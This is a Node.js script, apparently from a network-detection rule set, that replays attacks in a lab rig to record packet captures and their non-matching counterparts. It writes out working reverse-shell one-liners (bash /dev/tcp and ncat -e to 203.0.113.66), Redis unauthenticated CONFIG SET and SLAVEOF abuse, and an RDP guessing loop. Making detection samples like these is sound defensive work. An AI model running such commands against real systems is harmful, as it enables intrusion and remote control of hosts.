/** Makes the captures of services other than the web: Redis, reverse shells. `node rules/make/services.mjs` as root. */
import { dirname, join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { Rig } from './rig.mjs';

const rules = join(dirname(fileURLToPath(import.meta.url)), '..');
const wanted = process.argv.slice(2);
const rig = new Rig();
async function make(file, body) {
  if (wanted.length > 0 && !wanted.some((w) => file.includes(w))) return;
  await rig.capture(join(rules, file), body);
  process.stdout.write(`${file}\n`);
}
const sh = (script) => rig.attack('bash', '-c', script);

try {
  rig.open(['203.0.113.66', '10.42.3.57'], ['10.42.1.10']);
  const redis = (port, ...more) => rig.victim('redis-server', '--port', String(port), '--bind', '10.42.1.10', '--save', '', '--dir', '/tmp', '--daemonize', 'no', ...more);
  // Redis 7 guards these settings by itself; those of 2019 did not.
  redis(6379, '--protected-mode', 'no', '--enable-protected-configs', 'yes');
  redis(6380, '--requirepass', 'x7Kp');
  await sleep(700);
  const cli = (port, ...args) => rig.attack('redis-cli', '-h', '10.42.1.10', '-p', String(port), ...args);
  const d = 'database/redis-unauthenticated-write/';
  await make(`${d}config-set.pcap`, async () => {
    await cli(6379, 'config', 'set', 'dir', '/tmp');
    await cli(6379, 'CONFIG', 'SET', 'dbfilename', 'authorized_keys');
    await cli(6379, 'config', 'set', 'dbfilename', 'dump.rdb');
  });
  await make(`${d}slaveof.pcap`, () => sh("exec 3<>/dev/tcp/10.42.1.10/6379; printf 'SLAVEOF 203.0.113.66 21000\\r\\n' >&3; head -c 5 <&3; printf 'SLAVEOF NO ONE\\r\\n' >&3; head -c 5 <&3"));
  await make(`${d}password.pcap`, () => cli(6380, 'config', 'set', 'dir', '/root/.ssh'));
  await make(`${d}miss-cache.pcap`, async () => {
    await cli(6379, 'set', 'note', 'how to use CONFIG SET dir in Redis');
    await cli(6379, 'get', 'note');
    await cli(6379, 'config', 'get', 'dir');
    await cli(6379, 'info', 'server');
  });

  // A stand-in for a terminal server: confirms the connection, says as much as a failed TLS login does, hangs up.
  const rdp = "const c=require('crypto');require('net').createServer(s=>{s.on('error',()=>{});s.once('data',()=>{s.write(Buffer.from('030000130ed000001234000209080002000000','hex'));s.end(c.createHash('sha512').update('x').digest('hex').repeat(7))})}).listen(3389)";
  rig.victim(process.execPath, '-e', rdp);
  await sleep(400);
  await make('behaviour/login-rate/rdp-guessing.pcap', () => sh(
    `for i in $(seq 40); do printf '\\x03\\x00\\x00\\x2b\\x26\\xe0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=admin\\r\\n\\x01\\x00\\x08\\x00\\x03\\x00\\x00\\x00' | timeout 1 ncat 10.42.1.10 3389 > /dev/null; sleep 0.2; done`));

  const s = 'shell/reverse-shell-prompt/';
  const listen = (port, commands) => rig.attack('bash', '-c', `(sleep 1; printf '${commands}'; sleep 1) | timeout 4 ncat -lnp ${port}`);
  await make(`${s}bash.pcap`, async () => {
    const listener = listen(4444, 'id\\npwd\\nexit\\n');
    await sleep(400);
    // A host name and folder of its own, so that the prompt says nothing of the machine.
    await rig.fromVictim('unshare', '--uts', 'bash', '-c', 'hostname web01; cd /var/tmp; HOME=/var/tmp exec timeout 4 bash -i >& /dev/tcp/203.0.113.66/4444 0>&1');
    await listener;
  });
  await make(`${s}sh-ncat.pcap`, async () => {
    const listener = listen(8443, 'id\\nexit\\n');
    await sleep(400);
    await rig.fromVictim('timeout', '4', 'ncat', '203.0.113.66', '8443', '-e', '/bin/sh');
    await listener;
  });
  await make(`${s}miss-telnet.pcap`, async () => {
    const server = rig.victim('bash', '-c', "printf 'admin@switch-3:~$ ' | timeout 3 ncat -lnp 23");
    await sleep(300);
    await sh("timeout 2 ncat --recv-only 10.42.1.10 23");
    server.kill();
    const sink = rig.victim('bash', '-c', 'timeout 3 ncat -lnp 5140');
    await sleep(300);
    await sh("printf '<13>Oct 18 10:00:00 web bash: no job control in this shell\\n' | timeout 2 ncat --send-only 10.42.1.10 5140");
    sink.kill();
  });
} finally {
  rig.close();
}
